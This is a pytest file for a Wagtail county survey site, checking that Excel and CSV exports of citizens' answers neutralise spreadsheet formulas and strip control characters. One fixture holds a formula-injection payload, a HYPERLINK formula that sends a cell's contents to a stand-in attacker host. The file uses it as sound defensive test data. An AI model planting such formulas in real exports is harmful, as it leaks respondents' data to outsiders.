"""Issue 11 V6/V7 on surveys: a citizen's free-text answer with control characters made the Excel
export fail (HTTP 500), and a formula typed as an answer became a live formula in Wagtail's own
CSV download of the answer sheets. Every survey export now writes such text as plain text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from opencounty.interaction.surveys.actions import answer_survey
from opencounty.interaction.tests.survey_helpers import answer, filled, make_survey, names

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"查看结果")'
BROKEN = "希望\x01延长\x08办公\x1b时间\x0b周末也开"


@pytest.fixture
def hostile_survey(client):
    """One sheet sent through the public form with a formula, one stored with control chars."""
    page = make_survey()
    answer(client, page, filled(page, text=FORMULA))
    answer_survey(
        page,
        answers={names(page)["您的意见和建议"]: BROKEN, names(page)["您的年龄段"]: "-1"},
        form_token="control-characters",
    )
    return page


def test_our_excel_export_has_the_answers_as_readable_text(client, county_officer, hostile_survey):
    client.force_login(county_officer)
    response = client.get(f"/admin/surveys/{hostile_survey.pk}/export/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["原始答卷"]
    texts = {row[5].value: row[5] for row in sheet.iter_rows(min_row=2)}
    assert texts[FORMULA].data_type == "s" and texts[FORMULA].quotePrefix
    assert "希望延长办公时间\n周末也开" in texts


def test_wagtails_csv_download_never_starts_a_cell_with_a_formula(
    client, county_officer, hostile_survey
):
    client.force_login(county_officer)
    response = client.get(f"/admin/forms/submissions/{hostile_survey.pk}/", {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells and "'-1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "希望延长办公时间\n周末也开" in cells
    assert not any(ch in text for ch in "\x01\x08\x1b\x0b")


def test_wagtails_excel_download_has_the_answers_as_text(client, county_officer, hostile_survey):
    client.force_login(county_officer)
    response = client.get(f"/admin/forms/submissions/{hostile_survey.pk}/", {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]
    formula = next(cell for cell in cells if cell.value == FORMULA)
    assert formula.data_type == "s" and formula.quotePrefix
    assert any(cell.value == "希望延长办公时间\n周末也开" for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)
